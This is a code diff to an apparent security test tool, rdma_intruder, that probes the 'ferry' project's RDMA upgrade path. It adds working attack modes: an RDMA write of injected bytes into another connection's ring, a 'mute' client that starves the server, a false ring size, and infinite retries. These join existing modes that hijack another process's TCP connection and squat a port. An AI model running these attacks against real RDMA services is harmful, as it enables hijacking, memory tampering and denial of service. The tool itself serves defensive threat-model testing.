@@ -2,22 +2,34 @@
 // ferry's RDMA side (docs/design.md, "Threat model"). Runs without ferry, as any user:
 // rdma_cm's device is open to all.
 //
-//   rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS
+//   rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS [RING_BYTES]
 //     Asks the server at IP:PORT, with ferry's Hello, to carry the TCP connection from
 //     CLIENT_PORT (another process's: read from /proc/net/tcp), offering a ring of its
-//     own; once accepted, claims the client cut over at TCP_OFFSET (the bytes the client
-//     sent so far) and watches its ring for SECONDS.
+//     own (said to be RING_BYTES large: 64 KiB); once accepted, claims the client cut
+//     over at TCP_OFFSET (the bytes the client sent so far) and watches its ring for
+//     SECONDS.
 //   rdma_intruder squat IP PORT SECONDS
 //     Takes rdma_cm port PORT before a server does and answers every Hello with a
 //     Welcome and a ring of its own, then watches the rings for SECONDS.
+//   rdma_intruder write IP PORT ADDR RKEY
+//     A client of the server in its own right (its own TCP connection, upgraded as
+//     ferry's client asks, then says "GO"): once accepted, writes 64 bytes to ADDR with RKEY (another
+//     connection's ring in the server) and prints how the write completed.
+//   rdma_intruder mute IP PORT SECONDS
+//     A client of the server in its own right (as for write) that proves it holds its TCP connection
+//     (ferry's binding) and cuts over, but posts no receive request: the server's
+//     messages find none. Reads its TCP connection for SECONDS (or to its end) and
+//     prints how many bytes came.
 //
 // Prints what it saw: "accepted"/"refused", then "landed N bytes" and the printable
-// text of what landed (a ferry that binds its upgrades lets nothing land).
+// text of what landed (a ferry that binds its upgrades lets nothing land), or the
+// write's completion, or the TCP bytes.
 #include "core/proto/wire.h"
 
 #include <arpa/inet.h>
 #include <poll.h>
 #include <rdma/rdma_cma.h>
+#include <sys/socket.h>
 #include <unistd.h>
 
 #include <chrono>
@@ -32,6 +44,8 @@ namespace {
 namespace wire = ferry::wire;
 
 constexpr size_t kRing = 1 << 16;
+// What a client of intrusion.py's push-all-server says first.
+constexpr char kLine[] = "GO\n";
 
 rdma_event_channel* g_events;
 
@@ -52,7 +66,7 @@ struct Side {
   ibv_mr* ring_mr = nullptr;
   ibv_mr* ctl_mr = nullptr;
 
-  bool build(rdma_cm_id* on) {
+  bool build(rdma_cm_id* on, int receives = 15) {
     id = on;
     pd = ibv_alloc_pd(id->verbs);
     cq = pd ? ibv_create_cq(id->verbs, 64, nullptr, nullptr, 0) : nullptr;
@@ -66,7 +80,7 @@ struct Side {
     ring_mr = ibv_reg_mr(pd, ring.data(), ring.size(), IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
     ctl_mr = ibv_reg_mr(pd, ctl, sizeof ctl, IBV_ACCESS_LOCAL_WRITE);
     if (!ring_mr || !ctl_mr) return false;
-    for (int i = 0; i < 15; ++i) {  // control messages (credits, the peer's cutover)
+    for (int i = 0; i < receives; ++i) {  // control messages (credits, the peer's cutover)
       ibv_sge s{reinterpret_cast<uint64_t>(ctl + 16 * i), 16, ctl_mr->lkey};
       ibv_recv_wr w{};
       w.wr_id = static_cast<uint64_t>(i);
@@ -77,7 +91,8 @@ struct Side {
     }
     return true;
   }
-  wire::RingRef ref() const { return {reinterpret_cast<uint64_t>(ring.data()), ring_mr->rkey, kRing}; }
+  uint64_t said = kRing;  // the ring size the Hello or Welcome gives
+  wire::RingRef ref() const { return {reinterpret_cast<uint64_t>(ring.data()), ring_mr->rkey, said}; }
   // A ferry control message, as the peer's own would come.
   bool control(wire::Op op, uint64_t value) {
     uint8_t* m = ctl + 16 * 15;
@@ -93,12 +108,13 @@ struct Side {
   }
 };
 
+// Asks the server's queue pair to retry forever (7), as a hostile peer would.
 rdma_conn_param param(const void* data, uint8_t len) {
   rdma_conn_param p{};
   p.private_data = data;
   p.private_data_len = len;
-  p.retry_count = 6;
-  p.rnr_retry_count = 6;
+  p.retry_count = 7;
+  p.rnr_retry_count = 7;
   return p;
 }
 
@@ -123,7 +139,10 @@ int report(const std::vector<Side*>& sides, int seconds) {
 }
 
 // One request: the answer event (null if none came in `seconds`).
-rdma_cm_event* ask(Side& side, const sockaddr_in& server, uint16_t client_port) {
+// speak_fd: a TCP connection of our own on which to send a line once the server holds
+// the request (its program then reads, and answers), or once refused.
+rdma_cm_event* ask(Side& side, const sockaddr_in& server, uint16_t client_port, int receives = 15,
+                   int speak_fd = -1) {
   rdma_cm_id* id = nullptr;
   if (rdma_create_id(g_events, &id, nullptr, RDMA_PS_TCP) != 0) return nullptr;
   rdma_cm_event* ev = nullptr;
@@ -134,7 +153,7 @@ rdma_cm_event* ask(Side& side, const sockaddr_in& server, uint16_t client_port) 
   if (rdma_resolve_route(id, 2000) != 0 || !(ev = next_event(5000)) || ev->event != RDMA_CM_EVENT_ROUTE_RESOLVED)
     return nullptr;
   rdma_ack_cm_event(ev);
-  if (!side.build(id)) {
+  if (!side.build(id, receives)) {
     perror("verbs");
     return nullptr;
   }
@@ -143,13 +162,16 @@ rdma_cm_event* ask(Side& side, const sockaddr_in& server, uint16_t client_port) 
   rdma_conn_param p = param(hello, sizeof hello);
   if (rdma_connect(id, &p) != 0) return nullptr;
   // A ferry server holds a request until its program reads from the connection.
-  if ((ev = next_event(1000))) return ev;
-  printf("asked\n");
-  return next_event(40000);
+  ev = next_event(1000);
+  if (!ev) printf("asked\n");
+  // Said either way: the server's program waits for it.
+  if (speak_fd >= 0 && send(speak_fd, kLine, sizeof kLine - 1, 0) != sizeof kLine - 1) return nullptr;
+  return ev ? ev : next_event(40000);
 }
 
-int forge(const sockaddr_in& server, uint16_t client_port, uint64_t offset, int seconds) {
+int forge(const sockaddr_in& server, uint16_t client_port, uint64_t offset, int seconds, uint64_t said) {
   Side side;
+  side.said = said;
   rdma_cm_event* ev = ask(side, server, client_port);
   if (!ev || ev->event != RDMA_CM_EVENT_ESTABLISHED) {
     printf("refused (%s, status %d)\n", ev ? rdma_event_str(ev->event) : "no answer", ev ? ev->status : 0);
@@ -203,11 +225,115 @@ int squat(const sockaddr_in& at, int seconds) {
   return report(sides, 0);
 }
 
+// A TCP connection of our own to the server: its descriptor and source port.
+int own_connection(const sockaddr_in& server, uint16_t& port) {
+  int fd = socket(AF_INET, SOCK_STREAM, 0);
+  sockaddr_in me{};
+  socklen_t len = sizeof me;
+  if (fd < 0 || connect(fd, (const sockaddr*)&server, sizeof server) != 0 ||
+      getsockname(fd, (sockaddr*)&me, &len) != 0) {
+    perror("connect");
+    return -1;
+  }
+  port = ntohs(me.sin_port);
+  return fd;
+}
+
+// The upgrade of our own connection, as ferry's client asks for it: the Welcome (false
+// if refused).
+bool upgrade_own(Side& side, int fd, const sockaddr_in& server, uint16_t port, int receives, wire::Welcome& w) {
+  rdma_cm_event* ev = ask(side, server, port, receives, fd);
+  if (!ev || ev->event != RDMA_CM_EVENT_ESTABLISHED ||
+      wire::decode(ev->param.conn.private_data, ev->param.conn.private_data_len, w) != wire::Error::ok) {
+    printf("refused (%s)\n", ev ? rdma_event_str(ev->event) : "no answer");
+    if (ev) rdma_ack_cm_event(ev);
+    return false;
+  }
+  rdma_ack_cm_event(ev);
+  printf("accepted\n");
+  return true;
+}
+
+constexpr uint64_t kWriteTag = 0xbad;
+
+int write_other(const sockaddr_in& server, uint64_t addr, uint32_t rkey) {
+  uint16_t port = 0;
+  const int fd = own_connection(server, port);
+  Side side;
+  wire::Welcome w;
+  if (fd < 0 || !upgrade_own(side, fd, server, port, 15, w)) return 0;
+  // 64 bytes of a record's worth of text where another connection's ring is.
+  uint8_t* text = side.ring.data();
+  memset(text, 'X', 64);
+  memcpy(text, "INJECTED", 8);
+  ibv_sge s{reinterpret_cast<uint64_t>(text), 64, side.ring_mr->lkey};
+  ibv_send_wr wr{};
+  wr.wr_id = kWriteTag;
+  wr.opcode = IBV_WR_RDMA_WRITE;
+  wr.send_flags = IBV_SEND_SIGNALED;
+  wr.sg_list = &s;
+  wr.num_sge = 1;
+  wr.wr.rdma.remote_addr = addr;
+  wr.wr.rdma.rkey = rkey;
+  ibv_send_wr* bad = nullptr;
+  if (ibv_post_send(side.id->qp, &wr, &bad) != 0) {
+    perror("ibv_post_send");
+    return 1;
+  }
+  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(20);
+  ibv_wc wc{};
+  while (std::chrono::steady_clock::now() < until) {
+    const int n = ibv_poll_cq(side.cq, 1, &wc);
+    if (n < 0) break;
+    if (n == 0 || wc.wr_id != kWriteTag) {  // (an error completion's opcode means nothing)
+      usleep(1000);
+      continue;
+    }
+    printf("write to another connection's ring: %s\n", ibv_wc_status_str(wc.status));
+    close(fd);
+    return 0;
+  }
+  printf("write to another connection's ring: no completion\n");
+  close(fd);
+  return 0;
+}
+
+int mute(const sockaddr_in& server, int seconds) {
+  uint16_t port = 0;
+  const int fd = own_connection(server, port);
+  Side side;
+  wire::Welcome w;
+  if (fd < 0 || !upgrade_own(side, fd, server, port, 0, w)) return 0;
+  // The proof, right at our cutover point (after our line), then the cutover:
+  // the server trusts the channel and writes into our ring from now on.
+  uint8_t proof[wire::kProofSize];
+  wire::encode(wire::Proof{w.nonce, 0x5eed}, proof);
+  if (send(fd, proof, sizeof proof, 0) != static_cast<ssize_t>(sizeof proof) || !side.control(wire::Op::cutover, sizeof kLine - 1)) {
+    perror("proof");
+    return 1;
+  }
+  printf("proved\n");
+  size_t got = 0;
+  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
+  char buf[65536];
+  while (std::chrono::steady_clock::now() < until) {
+    pollfd p{fd, POLLIN, 0};
+    if (poll(&p, 1, 100) <= 0) continue;
+    const ssize_t n = recv(fd, buf, sizeof buf, 0);
+    if (n <= 0) break;
+    got += static_cast<size_t>(n);
+  }
+  printf("tcp received %zu bytes\n", got);
+  close(fd);
+  return 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
   const std::string usage =
-      "usage: rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS | squat IP PORT SECONDS\n";
+      "usage: rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS [RING_BYTES] | squat IP PORT SECONDS\n"
+      "       | write IP PORT ADDR RKEY | mute IP PORT SECONDS\n";
   if (argc < 5) {
     fputs(usage.c_str(), stderr);
     return 2;
@@ -224,8 +350,12 @@ int main(int argc, char** argv) {
   const std::string mode = argv[1];
   setvbuf(stdout, nullptr, _IOLBF, 0);
   if (mode == "forge" && argc >= 7)
-    return forge(addr, static_cast<uint16_t>(atoi(argv[4])), strtoull(argv[5], nullptr, 10), atoi(argv[6]));
+    return forge(addr, static_cast<uint16_t>(atoi(argv[4])), strtoull(argv[5], nullptr, 10), atoi(argv[6]),
+                 argc >= 8 ? strtoull(argv[7], nullptr, 0) : kRing);
   if (mode == "squat") return squat(addr, atoi(argv[4]));
+  if (mode == "write" && argc >= 6)
+    return write_other(addr, strtoull(argv[4], nullptr, 0), static_cast<uint32_t>(strtoul(argv[5], nullptr, 0)));
+  if (mode == "mute") return mute(addr, atoi(argv[4]));
   fputs(usage.c_str(), stderr);
   return 2;
 }
